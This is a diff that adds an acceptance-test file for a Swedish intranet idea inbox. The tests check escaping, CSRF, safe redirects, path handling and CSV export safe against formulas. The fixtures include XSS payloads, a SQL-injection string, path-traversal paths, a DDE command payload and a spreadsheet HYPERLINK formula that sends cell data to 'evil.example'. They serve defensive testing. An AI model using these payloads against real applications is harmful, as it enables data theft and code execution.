@@ -1,0 +1,295 @@
+/**
+ * Acceptance tests of issue 3 for the HTML side: sign-in page and its `return`, demo pages with the
+ * widget, the inbox (access, filters, escaping, status with CSRF, CSV safe against formulas).
+ */
+import { randomUUID } from 'node:crypto';
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import Database from 'better-sqlite3';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { RemoteIdea } from '../../shared/domain/idea';
+import { startTestIntranet, type TestIntranet, type TestLogin } from '../support/intranet';
+
+let intranet: TestIntranet;
+let anna: TestLogin;
+let ivan: TestLogin;
+let widgetDir: string;
+
+beforeAll(async () => {
+  widgetDir = mkdtempSync(join(tmpdir(), 'idesluss-widget-'));
+  writeFileSync(join(widgetDir, 'idesluss-widget.js'), 'export const built = true;\n');
+  intranet = await startTestIntranet({ widgetDir });
+  [anna, ivan] = await Promise.all([intranet.login('anna'), intranet.login('ivan')]);
+});
+afterAll(async () => {
+  await intranet.close();
+  rmSync(widgetDir, { recursive: true, force: true });
+});
+
+const page = (path: string, who?: TestLogin, init: RequestInit = {}) =>
+  intranet.fetch(`${intranet.url}${path}`, { redirect: 'manual', ...init, headers: { ...(who ? { Cookie: who.cookie } : {}), ...(init.headers as Record<string, string>) } });
+
+async function putIdea(who: TestLogin, body: Record<string, unknown>): Promise<RemoteIdea> {
+  const r = await intranet.fetch(`${intranet.apiBase}/ideas/${randomUUID()}`, {
+    method: 'PUT',
+    headers: { Cookie: who.cookie, 'Content-Type': 'application/json', 'X-Idesluss-Client': 'test/1' },
+    body: JSON.stringify({ description: '', ...body }),
+  });
+  expect(r.status).toBe(201);
+  return (await r.json()) as RemoteIdea;
+}
+
+const HOSTILE_TITLE = `<script>alert("t")</script><img src=x onerror=alert(1)> '; DROP TABLE ideas; --`;
+const HOSTILE_DESCRIPTION = `=HYPERLINK("http://evil.example/?"&A1,"klick")\n<b onmouseover=alert(1)>fet</b>`;
+
+describe('demo pages', () => {
+  it.each([
+    ['/', 'launcher', undefined],
+    ['/nyheter/digital-signering', 'launcher', undefined],
+    ['/utmaningar/mindre-matsvinn', 'inline', 'mindre-matsvinn'],
+  ])('%s is Swedish and embeds the widget (%s)', async (path, mode, challenge) => {
+    const r = await page(path);
+    expect(r.status).toBe(200);
+    expect(r.headers.get('Content-Security-Policy')).toContain("script-src 'self'");
+    const text = await r.text();
+    expect(text).toContain('<html lang="sv">');
+    expect(text).toContain('<script type="module" src="/widget/idesluss-widget.js"></script>');
+    const tag = challenge
+      ? `<idesluss-widget mode="inline" challenge="${challenge}" api-base="/api/idesluss/v1"></idesluss-widget>`
+      : `<idesluss-widget mode="${mode}" api-base="/api/idesluss/v1"></idesluss-widget>`;
+    expect(text).toContain(tag);
+  });
+
+  it('serves the built widget at /widget/ and refuses paths outside it', async () => {
+    const r = await page('/widget/idesluss-widget.js');
+    expect(r.status).toBe(200);
+    expect(r.headers.get('Content-Type')).toMatch(/^text\/javascript/);
+    expect(await r.text()).toContain('built = true');
+    for (const path of ['/widget/../package.json', '/widget/%2e%2e/%2e%2e/package.json', '/widget/..%2fpackage.json', '/widget/nope.js']) {
+      expect((await page(path)).status, path).toBe(404);
+    }
+  });
+
+  it('pages still work when the widget is not built (the script is a 404)', async () => {
+    const bare = await startTestIntranet({ widgetDir: join(widgetDir, 'missing') });
+    try {
+      expect((await fetch(`${bare.url}/`)).status).toBe(200);
+      expect((await fetch(`${bare.url}/widget/idesluss-widget.js`)).status).toBe(404);
+    } finally {
+      await bare.close();
+    }
+  });
+
+  it('an unknown challenge is a 404 page with its id escaped', async () => {
+    const r = await page('/utmaningar/%3Cscript%3Ex');
+    expect(r.status).toBe(404);
+    expect(await r.text()).not.toContain('<script>x');
+  });
+});
+
+describe('sign-in page', () => {
+  it('is a labelled Swedish form that keeps a safe return path, escaped', async () => {
+    const r = await page('/logga-in?return=%2Finkorg%3Fstatus%3Dreceived%22%3E%3Cscript%3E');
+    const text = await r.text();
+    expect(text).toContain('<label for="username">Användarnamn</label>');
+    expect(text).toContain('<label for="password">Lösenord</label>');
+    expect(text).toContain('autocomplete="current-password"');
+    expect(text).not.toContain('"><script>');
+    expect(text).toMatch(/name="return" value="\/inkorg\?status=received(%22|&quot;)/);
+  });
+
+  const formLogin = (username: string, password: string, ret: string, origin?: string) =>
+    page('/auth/login', undefined, {
+      method: 'POST',
+      headers: { 'Content-Type': 'application/x-www-form-urlencoded', ...(origin ? { Origin: origin } : {}) },
+      body: new URLSearchParams({ username, password, return: ret }).toString(),
+    });
+
+  it.each([
+    ['/inkorg', '/inkorg'],
+    ['//evil.example/x', '/'],
+    ['/\\evil.example', '/'],
+    ['https://evil.example/', '/'],
+    ['javascript:alert(1)', '/'],
+    ['/ok?x=1#frag', '/ok?x=1#frag'],
+  ])('the form redirects to %s only if same-origin (→ %s)', async (ret, expected) => {
+    const r = await formLogin('ivan', 'demo', ret);
+    expect(r.status).toBe(303);
+    expect(r.headers.get('Location')).toBe(expected);
+    expect(r.headers.get('Set-Cookie')).toMatch(/HttpOnly/i);
+  });
+
+  it('a wrong password shows an announced error and keeps the name, escaped', async () => {
+    const r = await formLogin('<b>anna</b>', 'fel', '/');
+    expect(r.status).toBe(401);
+    const text = await r.text();
+    expect(text).toContain('role="alert"');
+    expect(text).toContain('value="&lt;b&gt;anna&lt;/b&gt;"');
+  });
+
+  it('tells a throttled user, in Swedish, how long to wait', async () => {
+    for (let i = 0; i < 10; i++) expect((await formLogin('bertil', `fel${i}`, '/')).status).toBe(401);
+    const r = await formLogin('bertil', 'demo', '/');
+    expect(r.status).toBe(429);
+    expect(Number(r.headers.get('Retry-After'))).toBeGreaterThan(0);
+    expect(await r.text()).toMatch(/role="alert">För många misslyckade försök\. Vänta \d+ minuter/);
+  });
+
+  it('refuses a sign-in form above 64 KiB with 413', async () => {
+    expect((await formLogin('anna', 'x'.repeat(70 * 1024), '/')).status).toBe(413);
+  });
+
+  it('refuses a sign-in form posted from another site', async () => {
+    expect((await formLogin('anna', 'demo', '/', 'https://evil.example')).status).toBe(403);
+  });
+});
+
+describe('inbox', () => {
+  let hostile: RemoteIdea;
+  let plain: RemoteIdea;
+
+  beforeAll(async () => {
+    hostile = await putIdea(anna, {
+      title: HOSTILE_TITLE,
+      description: HOSTILE_DESCRIPTION,
+      kind: 'challenge',
+      challengeId: 'mindre-matsvinn',
+      source: { url: 'https://example.com/a?b=<c>&d="e"', title: '"><svg onload=alert(1)>', quote: '@SUM(1+1)*cmd|" /C calc"!A0' },
+    });
+    plain = await putIdea(anna, { title: '-2+3 grader i kylrummet', kind: 'good-example', anonymous: true });
+  });
+
+  it('sends signed-out users to sign-in and refuses non-team users with 403', async () => {
+    const out = await page('/inkorg?status=received');
+    expect(out.status).toBe(303);
+    expect(out.headers.get('Location')).toBe('/logga-in?return=%2Finkorg%3Fstatus%3Dreceived');
+    for (const path of ['/inkorg', `/inkorg/ideer/${hostile.id}`, '/inkorg/export.csv']) {
+      const r = await page(path, anna);
+      expect(r.status, path).toBe(403);
+      expect(await r.text()).not.toContain('DROP TABLE');
+    }
+  });
+
+  it('lists ideas with markup and SQL-looking text escaped, never live', async () => {
+    const r = await page('/inkorg', ivan);
+    expect(r.status).toBe(200);
+    const text = await r.text();
+    expect(text).toContain('&lt;script&gt;alert(&quot;t&quot;)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt; &#39;; DROP TABLE ideas; --');
+    expect(text).not.toContain('<script>alert');
+    expect(text).not.toContain('<img src=x');
+    expect(text).toContain('Anonym');
+  });
+
+  it('filters by status, kind and challenge', async () => {
+    const list = async (query: string) => await (await page(`/inkorg${query}`, ivan)).text();
+    expect(await list('?kind=good-example')).toContain('-2+3 grader');
+    expect(await list('?kind=good-example')).not.toContain('DROP TABLE');
+    expect(await list('?challenge=mindre-matsvinn')).toContain('DROP TABLE');
+    expect(await list('?challenge=mindre-matsvinn')).not.toContain('-2+3 grader');
+    expect(await list('?status=declined')).not.toContain('-2+3 grader');
+    expect(await list('?status=received&kind=challenge')).toContain('DROP TABLE');
+    expect(await list('?status=%3Cscript%3E')).not.toContain('<script>');
+  });
+
+  it('opens one idea: text escaped, the source a link only because it is http(s)', async () => {
+    const text = await (await page(`/inkorg/ideer/${hostile.id}`, ivan)).text();
+    expect(text).not.toMatch(/<svg|<b onmouseover|<script>alert/);
+    expect(text).toContain('&lt;b onmouseover=alert(1)&gt;fet&lt;/b&gt;');
+    expect(text).toContain('href="https://example.com/a?b=%3Cc%3E&amp;d=%22e%22"');
+    expect((await page(`/inkorg/ideer/${randomUUID()}`, ivan)).status).toBe(404);
+  });
+
+  it('never turns a stored non-http source address into a link (data written before validation, or by hand)', async () => {
+    const db = new Database(join(intranet.dataDir, 'idesluss.db'));
+    try {
+      db.prepare('UPDATE ideas SET source_url = ?, source_title = ? WHERE id = ?').run('javascript:alert(1)', 'Klicka', plain.id);
+    } finally {
+      db.close();
+    }
+    const text = await (await page(`/inkorg/ideer/${plain.id}`, ivan)).text();
+    expect(text).toContain('Klicka');
+    expect(text).not.toMatch(/href="javascript:/i);
+    expect(text).not.toContain('javascript:alert(1)</a>');
+  });
+
+  it('sets a status only with the session’s CSRF token and from the same origin', async () => {
+    const detail = await (await page(`/inkorg/ideer/${plain.id}`, ivan)).text();
+    const csrf = /name="csrf" value="([^"]+)"/.exec(detail)?.[1];
+    expect(csrf).toBeTruthy();
+    const post = (body: Record<string, string>, who: TestLogin, headers: Record<string, string> = {}) =>
+      page(`/inkorg/ideer/${plain.id}/status`, who, {
+        method: 'POST',
+        headers: { 'Content-Type': 'application/x-www-form-urlencoded', ...headers },
+        body: new URLSearchParams(body).toString(),
+      });
+    expect((await post({ status: 'declined' }, ivan)).status).toBe(403);
+    expect((await post({ status: 'declined', csrf: 'x'.repeat(csrf!.length) }, ivan)).status).toBe(403);
+    expect((await post({ status: 'declined', csrf: csrf! }, ivan, { Origin: 'https://evil.example' })).status).toBe(403);
+    expect((await post({ status: 'declined', csrf: csrf! }, anna)).status).toBe(403);
+    expect((await post({ status: 'bogus', csrf: csrf! }, ivan)).status).toBe(400);
+
+    const ok = await post({ status: 'piloting', csrf: csrf! }, ivan, { Origin: intranet.origin });
+    expect(ok.status).toBe(303);
+    expect(ok.headers.get('Location')).toBe(`/inkorg/ideer/${plain.id}?sparad=1`);
+    const mine = (await (await intranet.fetch(`${intranet.apiBase}/ideas?mine=true`, { headers: { Cookie: anna.cookie } })).json()) as RemoteIdea[];
+    expect(mine.find((x) => x.id === plain.id)?.status).toBe('piloting');
+    expect(await (await page('/inkorg?status=piloting', ivan)).text()).toContain('-2+3 grader');
+    const after = await (await page(`/inkorg/ideer/${plain.id}?sparad=1`, ivan)).text();
+    expect(after).toContain('Statusen är sparad.');
+    expect(after).toMatch(/<li>[^<]*: Testas \(Ivan Innovatör\)<\/li>/);
+  });
+
+  it('exports CSV (RFC 4180) where no cell can run as a formula and markup is plain text', async () => {
+    const r = await page('/inkorg/export.csv?challenge=mindre-matsvinn', ivan);
+    expect(r.status).toBe(200);
+    expect(r.headers.get('Content-Type')).toMatch(/^text\/csv; charset=utf-8/);
+    expect(r.headers.get('Content-Disposition')).toMatch(/^attachment; filename="idesluss-ideer-\d{4}-\d\d-\d\d\.csv"$/);
+    const csv = await r.text();
+    const rows = parseCsv(csv.replace(/^\ufeff/, ''));
+    expect(rows[0]![0]).toBe('id');
+    const row = rows.find((cells) => cells[0] === hostile.id)!;
+    expect(row).toBeDefined();
+    for (const cell of rows.flat()) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
+    expect(row[1]).toBe(HOSTILE_TITLE);
+    expect(row[2]).toBe(`'${HOSTILE_DESCRIPTION}`);
+    expect(row[11]).toBe(`'@SUM(1+1)*cmd|" /C calc"!A0`);
+    expect(rows.some((cells) => cells[0] === plain.id)).toBe(false);
+
+    const all = parseCsv((await (await page('/inkorg/export.csv', ivan)).text()).replace(/^\ufeff/, ''));
+    const anonymous = all.find((cells) => cells[0] === plain.id)!;
+    expect(anonymous[1]).toBe(`'-2+3 grader i kylrummet`);
+    expect(anonymous[7]).toBe('');
+  });
+});
+
+/** A strict RFC 4180 reader: every field quoted, CRLF between records. */
+function parseCsv(text: string): string[][] {
+  expect(text.endsWith('\r\n')).toBe(true);
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let i = 0;
+  while (i < text.length) {
+    expect(text[i]).toBe('"');
+    let value = '';
+    i++;
+    for (;;) {
+      const quote = text.indexOf('"', i);
+      value += text.slice(i, quote);
+      i = quote + 1;
+      if (text[i] === '"') {
+        value += '"';
+        i++;
+      } else break;
+    }
+    row.push(value);
+    if (text[i] === ',') i++;
+    else {
+      expect(text.slice(i, i + 2)).toBe('\r\n');
+      i += 2;
+      rows.push(row);
+      row = [];
+    }
+  }
+  return rows;
+}
